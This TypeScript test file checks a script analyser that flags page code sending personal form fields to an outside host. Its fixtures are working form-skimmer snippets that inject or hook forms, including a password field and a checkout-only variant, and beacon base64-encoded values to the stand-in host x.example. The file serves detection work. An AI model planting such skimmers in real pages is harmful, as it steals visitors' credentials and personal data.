import assert from 'node:assert/strict';
import { analyse } from '../../flow/analyse.ts';

const popup = (fields: string): string =>
  `var b=document.createElement('div');b.innerHTML='<form>${fields}</form>';document.body.append(b);b.querySelector('form').addEventListener('submit',function(){var o={};b.querySelectorAll('input').forEach(function(i){o[i.name]=i.value});new Image().src='https://x.example/?d='+btoa(JSON.stringify(o))})`;

const cases: Record<string, [string, string[]]> = {
  'a form that the script puts up, in base64': [
    popup('<input type="email" name="email"><input type="tel" name="phone">'),
    ['low personal-field-to-host'],
  ],
  'one that asks for a password': [
    popup('<input type="email" name="email"><input type="password" name="password">'),
    ['medium personal-field-to-host'],
  ],
  'fields of the page, in base64': [
    `document.querySelector('form').addEventListener('submit',function(){new Image().src='https://x.example/?d='+btoa(document.querySelector('#email').value)})`,
    ['medium personal-field-to-host'],
  ],
  'an address alone, on the checkout, in base64 as marketing tools send it': [
    `if(/checkout/.test(location.pathname))document.querySelector('form').addEventListener('submit',function(){new Image().src='https://x.example/?d='+encodeURIComponent(btoa(JSON.stringify({e:document.querySelector('input[type=email]').value})))})`,
    ['medium checkout-gate', 'medium personal-field-to-host'],
  ],
};

describe('personal fields', () => {
  for (const [name, [text, expected]] of Object.entries(cases))
    it(name, () => {
      assert.deepEqual(
        analyse(text).evidence.map(({ severity, rule }) => `${severity} ${rule}`),
        expected,
      );
    });
});
